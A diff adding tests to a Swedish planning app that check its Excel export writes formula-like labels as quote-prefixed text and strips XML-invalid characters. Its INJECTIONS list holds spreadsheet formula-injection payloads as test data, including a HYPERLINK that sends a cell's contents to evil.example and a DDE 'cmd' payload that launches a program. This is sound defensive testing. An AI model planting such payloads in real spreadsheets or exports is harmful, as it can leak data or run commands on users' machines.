@@ -93,3 +93,61 @@ def test_a_reader_may_not_bring_figures_in(as_user):
     per = as_user("per")
     per.get(GRID)
     assert per.post(GRID + "/inlasning", {"pasted": "1\t2"}).status_code == 403
+
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1+1", "-2+3", "@SUM(1,1)",
+              "=cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(as_user):
+    """Labels beginning with =, +, - or @ are text in the .xlsx, never formulas (#23.4):
+    no <f> element anywhere, every text cell an inline string, quote-prefixed."""
+    import re
+    import zipfile
+
+    from sqlalchemy import select
+
+    from followup.extensions import db
+    from followup.models import FigureTable
+
+    table = db.session.scalar(select(FigureTable).where(FigureTable.key == "resultat-augusti"))
+    table.title = INJECTIONS[0]
+    table.unit = "=1+2"
+    rows = sorted(table.rows, key=lambda r: r.position)
+    for row, label in zip(rows, INJECTIONS[1:]):
+        row.label = label
+    table.columns = [{**c, "label": f"=A{j + 1}*2", "group": "+Helår" if j < 2 else None}
+                     for j, c in enumerate(table.columns)]
+    db.session.commit()
+    response = as_user("per").get("/plans/SOC-2026/tabeller/resultat-augusti/excel")
+    assert response.status_code == 200
+
+    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(r"<(\w+:)?f[\s>/]", xml) for xml in sheets)
+
+    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert f'{INJECTIONS[0]} (=1+2)' in texts
+    for label in [*INJECTIONS[1:], "=A1*2", "=A4*2", "+Helår"]:
+        cell = texts[label]
+        assert cell.data_type == "s", label
+        assert cell.quotePrefix, label
+    assert all(c.data_type == "s" for c in texts.values())
+
+
+def test_characters_xml_cannot_hold_are_left_out_of_the_xlsx(as_user):
+    from sqlalchemy import select
+
+    from followup.extensions import db
+    from followup.models import FigureTable
+
+    table = db.session.scalar(select(FigureTable).where(FigureTable.key == "nyckeltal-hvb"))
+    table.title = "'History'"
+    sorted(table.rows, key=lambda r: r.position)[0].label = "Kostnad\x07 för placeringar"
+    db.session.commit()
+    response = as_user("per").get(GRID + "/excel")
+    assert response.status_code == 200
+    wb = openpyxl.load_workbook(io.BytesIO(response.data))
+    assert wb.active.title == "Tabell"
+    assert wb.active["A4"].value == "Kostnad för placeringar"
